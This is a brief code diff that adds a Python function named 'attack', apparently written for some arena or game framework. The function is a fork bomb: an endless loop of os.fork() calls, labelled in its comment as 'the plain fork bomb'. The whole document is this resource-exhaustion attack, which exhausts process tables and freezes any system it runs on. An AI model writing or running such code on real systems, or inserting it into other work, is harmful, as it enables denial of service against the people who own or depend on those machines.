@@ -1,0 +1,4 @@
+# The plain fork bomb.
+def attack(arena):
+    while True:
+        os.fork()
